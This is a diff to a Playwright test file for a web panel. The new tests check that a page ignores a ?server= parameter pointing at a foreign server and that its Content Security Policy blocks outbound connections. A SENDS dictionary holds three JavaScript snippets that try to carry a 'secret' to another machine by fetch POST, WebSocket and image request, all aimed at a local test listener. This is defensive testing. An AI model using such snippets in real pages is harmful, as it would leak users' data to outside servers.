@@ -8,14 +8,36 @@ from pathlib import Path
 
 import pytest
 from benedesk.server.settings import Settings
-from playwright.sync_api import Page, expect
+from playwright.sync_api import Error, Page, expect
 
+from tests.lab.browser.bidi import BidiError
 from tests.lab.browser.extension import READY
+from tests.lab.browser.firefox import Firefox
 from tests.lab.browser.panel import Panel
 from tests.lab.loop import Loop
 from tests.lab.server import AINO, PASSWORD, Server, settings_in
 
 from .conftest import DIST, Watch
+from .stranger import Stranger, stranger
+
+SENDS = {  # how a script could carry something to another machine
+    "a request": "(address) => fetch(address, { method: 'POST', mode: 'no-cors', body: 'secret' })",
+    "a socket": """(address) => new Promise((done, failed) => {
+        const socket = new WebSocket(address.replace('http', 'ws'));
+        Object.assign(socket, { onopen: done, onerror: () => failed(new Error('no connection')) });
+    })""",
+    "a picture": """(address) => new Promise((done, failed) => {
+        const onerror = () => failed(new Error('no picture'));
+        Object.assign(new Image(), { onload: done, onerror, src: address });
+    })""",
+}
+
+
+@pytest.fixture
+def elsewhere() -> Iterator[Stranger]:
+    """A server that is not ours, and keeps what it is told."""
+    with stranger() as listening:
+        yield listening
 
 
 @pytest.fixture
@@ -46,7 +68,7 @@ def start(loop: Loop, settings: Settings) -> Iterator[Callable[..., Server]]:
 
 
 def open_page(page: Page, server: Server) -> Panel:
-    page.goto(f"{server.url}/?server={server.url.replace('http', 'ws')}")
+    page.goto(server.url)
     page.locator(READY).wait_for()
     return Panel(page)
 
@@ -76,6 +98,57 @@ def test_a_wrong_password_is_told_and_the_right_one_is_kept(
     page.reload()
     page.locator(READY).wait_for()
     expect(page.get_by_text("Yhteydessä")).to_be_visible()
+
+
+def test_a_served_page_signs_in_at_its_own_server_whatever_its_address_says(
+    page: Page, start: Callable[..., Server], elsewhere: Stranger
+) -> None:
+    server = start()
+    page.goto(f"{server.url}/?server={elsewhere.url.replace('http', 'ws')}")
+    page.locator(READY).wait_for()
+
+    sign_in(page)
+
+    expect(page.get_by_text("Aino Virtanen")).to_be_visible()
+    assert elsewhere.heard == []
+
+
+@pytest.mark.parametrize("how", SENDS)
+def test_no_script_of_a_served_page_reaches_another_server(
+    page: Page, start: Callable[..., Server], elsewhere: Stranger, watch: Watch, how: str
+) -> None:
+    open_page(page, start())
+
+    with pytest.raises(Error):
+        page.evaluate(SENDS[how], elsewhere.url)
+
+    page.wait_for_load_state("networkidle")
+    assert elsewhere.heard == []
+    assert any("Content Security Policy" in problem for problem in watch.problems)
+    watch.problems.clear()
+
+
+def test_a_page_of_the_static_demo_signs_in_nowhere(page: Page, site: str, elsewhere: Stranger) -> None:
+    page.goto(f"{site}?server={elsewhere.url.replace('http', 'ws')}")
+    page.locator(READY).wait_for()
+
+    expect(page.get_by_label("Salasana")).to_have_count(0)
+    expect(Panel(page).queues).to_be_visible()
+    assert elsewhere.heard == []
+
+
+def test_in_firefox_a_served_page_reaches_its_own_server_and_no_other(
+    fox: Firefox, start: Callable[..., Server], elsewhere: Stranger
+) -> None:
+    server = start()
+    tab = str(fox.bidi.send("browsingContext.create", type="tab")["context"])
+    fox.bidi.send("browsingContext.navigate", context=tab, url=server.url, wait="complete")
+    connect = f"(address) => ({SENDS['a socket']})(address).then(() => 'open')"
+
+    assert fox.bidi.run(tab, connect, f"{server.url}/ws") == "open"
+    with pytest.raises(BidiError, match="blocked"):
+        fox.bidi.run(tab, connect, elsewhere.url)
+    assert elsewhere.heard == []
 
 
 def test_a_token_that_has_ended_asks_to_sign_in_again(page: Page, start: Callable[..., Server]) -> None:
@@ -138,10 +211,10 @@ def test_a_lost_server_is_told_with_the_time_and_found_again_with_the_call(
 
 
 def test_a_server_that_is_not_there_is_named(page: Page, site: str, watch: Watch) -> None:
-    address = "ws://127.0.0.1:9"
     page.goto(site)
-    page.evaluate("key => localStorage.setItem(key, 'some')", f"benedesk.token {address}")
-    page.goto(f"{site}?server={address}")
+    own = site.replace("http", "ws").rstrip("/")
+    page.evaluate("key => localStorage.setItem(key, 'some')", f"benedesk.token {own}")
+    page.goto(f"{site}panel.html")  # where nothing but files is
 
     expect(page.get_by_text("Palvelimeen ei saada yhteyttä.")).to_be_visible(timeout=30_000)
     expect(page.get_by_role("button", name="Yhdistä nyt")).to_be_visible()
